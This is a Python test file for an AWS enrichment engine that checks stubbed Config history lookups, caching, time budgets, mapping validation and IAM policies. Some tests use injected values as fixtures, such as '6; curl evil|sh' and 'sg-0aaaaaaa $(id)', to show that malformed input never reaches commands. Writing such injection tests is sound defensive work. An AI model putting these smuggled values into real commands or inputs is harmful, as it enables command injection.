"""The enrichment engine without a server: Config answers in their documented shape, the budget,
the cache, value formats on the way into commands and plans, the mapping section's checks.

The Config answers below are written from the API reference
(https://docs.aws.amazon.com/config/latest/APIReference/API_GetResourceConfigHistory.html):
moto keeps no Config history of EC2 resources, so this is where the Config lookups are tested
against the answer AWS gives; botocore's Stubber rejects an answer that does not fit the model.
"""

from __future__ import annotations

import shutil
import threading
from pathlib import Path
from typing import Any

import boto3
import pytest
import yaml
from botocore.stub import Stubber

from connector.enrich.apply import apply_enrichment
from connector.enrich.engine import IAM_ACTIONS as READS
from connector.enrich.engine import Enricher, decode_json
from connector.enrich.plan import IAM_ACTIONS as WRITES
from connector.enrich.plan import build_plan
from connector.errors import MappingFileError
from connector.events import parse_event
from connector.mapping import build_finding, load_mapping_file, load_mappings
from connector.mapping.engine import render_command
from connector.mapping.loader import CliSpec
from connector.model import Severity
from connector.paths import mappings_dir
from tests.support import config_history
from tests.support.records import make_record

MAPPINGS = load_mappings()
ACCOUNT = "111122223333"
ACL = "acl-0123456789abcdef0"
SUBNET = "subnet-0aaaaaaaaaaaaaaa1"


def _client(service: str) -> Any:
    return boto3.client(service, region_name="us-east-1", aws_access_key_id="testing",
                        aws_secret_access_key="testing", endpoint_url="http://127.0.0.1:9")


class Stubbed:
    """Real botocore clients answering from Stubber queues; counts the clients asked for."""

    def __init__(self) -> None:
        self.clients = {name: _client(name) for name in ("ec2", "config")}
        self.stubs = {name: Stubber(client) for name, client in self.clients.items()}
        for stub in self.stubs.values():
            stub.activate()
        self.asked = 0

    def client(self, service: str, *, account: str, region: str, partition: str) -> Any:
        self.asked += 1
        return self.clients[service]


def acl_history(entries: list[dict[str, Any]]) -> dict[str, Any]:
    """Newest first: the ACL after the deletion, then before it (with the rule)."""
    def configuration(with_rule: bool) -> dict[str, Any]:
        rules = entries if with_rule else entries[1:]
        return {"networkAclId": ACL, "vpcId": "vpc-0aaaaaaaaaaaaaaa1", "isDefault": False, "ownerId": ACCOUNT,
                "entries": rules, "associations": [{"networkAclAssociationId": "aclassoc-0aaaaaaaaaaaaaaa1",
                                                    "networkAclId": ACL, "subnetId": SUBNET}], "tags": []}
    return config_history.history(
        config_history.item("AWS::EC2::NetworkAcl", ACL, configuration(False), account=ACCOUNT, region="us-east-1"),
        config_history.item("AWS::EC2::NetworkAcl", ACL, configuration(True), account=ACCOUNT, region="us-east-1",
                            age_minutes=60),
    )


def nacl_event(rule: int = 110, egress: bool = True) -> Any:
    return parse_event(make_record("DeleteNetworkAclEntry",
                                   requestParameters={"networkAclId": ACL, "ruleNumber": rule, "egress": egress}))


def queue_nacl(provider: Stubbed, entry: dict[str, Any]) -> None:
    """One answer per call the enrichment of a NACL entry makes; a further call fails the stub."""
    provider.stubs["ec2"].add_response("describe_network_acls", {"NetworkAcls": [
        {"NetworkAclId": ACL, "VpcId": "vpc-0aaaaaaaaaaaaaaa1",
         "Associations": [{"NetworkAclAssociationId": "aclassoc-0aaaaaaaaaaaaaaa1", "NetworkAclId": ACL, "SubnetId": SUBNET}]},
    ]}, {"NetworkAclIds": [ACL]})
    other = {"ruleNumber": 100, "protocol": "-1", "ruleAction": "allow", "egress": True, "cidrBlock": "0.0.0.0/0"}
    provider.stubs["config"].add_response("get_resource_config_history", acl_history([entry, other]),
                                          {"resourceType": "AWS::EC2::NetworkAcl", "resourceId": ACL, "limit": 10})
    provider.stubs["ec2"].add_response("describe_instances", {"Reservations": [{"Instances": [{"InstanceId": "i-0aaaaaaaaaaaaaaa1"}]}]})


def enrich_nacl(entry: dict[str, Any]) -> tuple[Any, Stubbed]:
    mapping = MAPPINGS["DeleteNetworkAclEntry"]
    provider = Stubbed()
    queue_nacl(provider, entry)
    event = nacl_event(entry["ruleNumber"], entry["egress"])
    finding = build_finding(event, mapping)
    enrichment = Enricher(provider, budget_seconds=5).enrich(event, mapping.enrichment, finding.values, mapping.formats)
    assert enrichment is not None
    return apply_enrichment(finding, mapping, enrichment), provider


def test_an_ipv6_rule_is_read_from_the_config_history() -> None:
    finding, _ = enrich_nacl({"ruleNumber": 110, "protocol": "6", "ruleAction": "deny", "egress": True,
                              "ipv6CidrBlock": "2001:db8::/32", "portRange": {"from": 3389, "to": 3389}})
    e = finding.enrichment
    assert e.status == "enriched", e.problems
    assert (e.values["protocol"], e.values["ruleAction"], e.values["ipv6CidrBlock"], e.values["portFrom"]) == (
        "6", "deny", "2001:db8::/32", "3389")
    assert "cidrBlock" not in e.values
    commands = [c.command for c in finding.remediation.cli]
    assert any("--ipv6-cidr-block 2001:db8::/32 --rule-action deny" in c for c in commands)
    assert finding.severity == Severity.HIGH and "DENY" in finding.severity_reason  # raised from MEDIUM
    assert e.blast_radius.subnets == (SUBNET,) and e.blast_radius.running_instances == 1


def test_an_icmp_allow_rule_keeps_the_base_severity_and_says_connectivity_is_lost() -> None:
    finding, _ = enrich_nacl({"ruleNumber": 120, "protocol": "1", "ruleAction": "allow", "egress": False,
                              "cidrBlock": "10.0.0.0/8", "icmpTypeCode": {"type": 8, "code": -1}})
    values = finding.enrichment.values
    assert (values["icmpType"], values["icmpCode"], values["egress"]) == ("8", "-1", "false")
    assert finding.severity == Severity.MEDIUM and "connectivity lost" in finding.severity_reason
    assert any("--icmp-type-code Type=8,Code=-1" in c.command for c in finding.remediation.cli)
    plan = build_plan(MAPPINGS["DeleteNetworkAclEntry"].enrichment, {**finding.values, **values},
                      finding.enrichment.blast_radius, MAPPINGS["DeleteNetworkAclEntry"].formats)
    assert not plan.refused and plan.calls[0].step.operation == "CreateNetworkAclEntry"


def test_a_malformed_value_from_aws_never_enters_a_command_or_a_plan() -> None:
    finding, _ = enrich_nacl({"ruleNumber": 130, "protocol": "6; curl evil|sh", "ruleAction": "deny", "egress": True,
                              "cidrBlock": "0.0.0.0/0"})
    create = next(c for c in finding.remediation.cli if "create-network-acl-entry" in c.command)
    assert "--protocol PROTOCOL" in create.command and "curl" not in create.command
    assert "protocol in the record is malformed" in create.description
    mapping = MAPPINGS["DeleteNetworkAclEntry"]
    plan = build_plan(mapping.enrichment, {**finding.values, **finding.enrichment.values},
                      finding.enrichment.blast_radius, mapping.formats)
    assert any("protocol is malformed" in text for text in plan.refused)


def test_a_malformed_event_value_is_never_sent_to_aws() -> None:
    mapping = MAPPINGS["DeleteNetworkAclEntry"]
    event = parse_event(make_record("DeleteNetworkAclEntry", requestParameters={
        "networkAclId": "acl-1 --filters x", "ruleNumber": 110, "egress": True}))
    provider = Stubbed()  # nothing queued: any call would fail the stub
    enrichment = Enricher(provider, budget_seconds=2).enrich(event, mapping.enrichment,
                                                             build_finding(event, mapping).values, mapping.formats)
    assert enrichment.status == "unenriched" and provider.asked == 0
    assert any("networkAclId unknown or malformed" in p for p in enrichment.problems)


def test_answers_are_cached() -> None:
    mapping = MAPPINGS["DeleteNetworkAclEntry"]
    provider = Stubbed()
    queue_nacl(provider, {"ruleNumber": 140, "protocol": "-1", "ruleAction": "deny", "egress": True, "cidrBlock": "0.0.0.0/0"})
    enricher = Enricher(provider, budget_seconds=5)
    event = nacl_event(140)
    values = build_finding(event, mapping).values
    first = enricher.enrich(event, mapping.enrichment, values, mapping.formats)
    calls = enricher.calls
    second = enricher.enrich(event, mapping.enrichment, values, mapping.formats)  # the stubs are empty now
    assert first.status == second.status == "enriched", second.problems
    assert first.values == second.values and calls == 3 and enricher.calls == calls


class Hanging:
    """A client whose every call blocks until released (an endpoint that never answers)."""

    def __init__(self) -> None:
        self.release = threading.Event()

    def client(self, service: str, *, account: str, region: str, partition: str) -> Any:
        gate = self.release

        class _Client:
            def __getattr__(self, name: str) -> Any:
                def call(**_: Any) -> Any:
                    gate.wait(30)
                    raise OSError("released")
                return call
        return _Client()


def test_the_budget_bounds_a_hanging_lookup() -> None:
    mapping = MAPPINGS["DeleteNatGateway"]
    event = parse_event(make_record("DeleteNatGateway"))
    hanging = Hanging()
    enricher = Enricher(hanging, budget_seconds=0.2)
    try:
        enrichment = enricher.enrich(event, mapping.enrichment, build_finding(event, mapping).values, mapping.formats)
    finally:
        hanging.release.set()
        enricher.close()
    assert enrichment.status == "unenriched"
    assert any("budget" in p for p in enrichment.problems)
    finding = apply_enrichment(build_finding(event, mapping), mapping, enrichment)
    assert "--subnet-id SUBNET_ID" in "\n".join(c.command for c in finding.remediation.cli)


def test_failed_and_dry_run_calls_are_not_enriched() -> None:
    mapping = MAPPINGS["DeleteNatGateway"]
    provider = Stubbed()
    for overrides in ({"errorCode": "Client.UnauthorizedOperation"}, {"errorCode": "Client.DryRunOperation"}):
        event = parse_event(make_record("DeleteNatGateway", **overrides))
        assert Enricher(provider).enrich(event, mapping.enrichment, {}, mapping.formats) is None
    assert provider.asked == 0


def test_list_values_are_quoted_one_by_one() -> None:
    formats = {"securityGroupId": "security-group-id-list"}
    command = render_command(CliSpec("x", "aws ec2 create-network-interface --groups {securityGroupId}"),
                             {"securityGroupId": "sg-0aaaaaaaaaaaaaaa1 sg-0aaaaaaaaaaaaaaa2"}, formats)
    assert command.command.endswith("--groups sg-0aaaaaaaaaaaaaaa1 sg-0aaaaaaaaaaaaaaa2")
    bad = render_command(CliSpec("x", "aws ec2 x --groups {securityGroupId}"), {"securityGroupId": "sg-0aaaaaaa $(id)"}, formats)
    assert bad.command.endswith("--groups SECURITY_GROUP_ID")


def test_decode_json_decodes_configuration_strings_in_place() -> None:
    answer = {"configurationItems": [{"configuration": '{"a": 1}'}, {"configuration": "not json"}, {}]}
    decode_json(answer, "configurationItems[].configuration")
    assert answer["configurationItems"][0]["configuration"] == {"a": 1}
    assert answer["configurationItems"][1]["configuration"] == "not json"


# -- the mapping section is checked when it loads ---------------------------------------------

def _mutated(tmp_path: Path, change: Any) -> Path:
    source = mappings_dir() / "DeleteNatGateway.yaml"
    doc = yaml.safe_load(source.read_text())
    change(doc["enrichment"])
    path = tmp_path / "DeleteNatGateway.yaml"
    path.write_text(yaml.safe_dump(doc, sort_keys=False))
    shutil.copytree(mappings_dir() / "common", tmp_path / "common")
    return path


@pytest.mark.parametrize(("change", "message"), [
    (lambda e: e["lookups"][0]["params"].update(NatGatewayIds=["{nope}"]), "unknown template variable"),
    (lambda e: e["formats"].update(subnetId="no-such-format"), "unknown format"),
    (lambda e: e["formats"].pop("publicIp"), "has no format"),
    (lambda e: e["lookups"][0].update(operation="DeleteNatGateway"), "does not match"),
    (lambda e: e["lookups"][0]["values"].update(subnetId="NatGateways[0"), "bad JMESPath"),
    (lambda e: e["restore"][0]["params"].update(SubnetId="{typo}"), "unknown template variable"),
])
def test_a_broken_enrichment_section_stops_the_load(tmp_path: Path, change: Any, message: str) -> None:
    with pytest.raises(MappingFileError, match=message):
        load_mapping_file(_mutated(tmp_path, change))


def test_the_deploy_policies_grant_the_enrichment_and_restore_actions() -> None:
    from tests.deploy.test_deploy import DEPLOY, cfn

    def actions(statements: list[Any]) -> set[str]:
        out: set[str] = set()
        for statement in statements:
            statement = statement["If"][1] if "If" in statement else statement
            out |= {statement["Action"]} if isinstance(statement["Action"], str) else set(statement["Action"])
        return out

    policy = cfn(DEPLOY / "cloudformation" / "iam-policy.yaml")["Resources"]
    operator = actions(policy["RemediationOperatorPolicy"]["Properties"]["PolicyDocument"]["Statement"])
    assert operator == set(WRITES) | set(READS) | {"sts:GetCallerIdentity"}
    assert set(READS) <= actions(policy["ConnectorPolicy"]["Properties"]["PolicyDocument"]["Statement"])
    assert not set(WRITES) & actions(policy["ConnectorPolicy"]["Properties"]["PolicyDocument"]["Statement"])
    member = cfn(DEPLOY / "cloudformation" / "member-role.yaml")["Resources"]["ImporterRole"]["Properties"]
    assert set(READS) <= actions(member["Policies"][0]["PolicyDocument"]["Statement"])
    steps = {s.operation for m in MAPPINGS.values() if m.enrichment for s in m.enrichment.restore}
    assert {f"ec2:{op}" for op in steps} == set(WRITES)
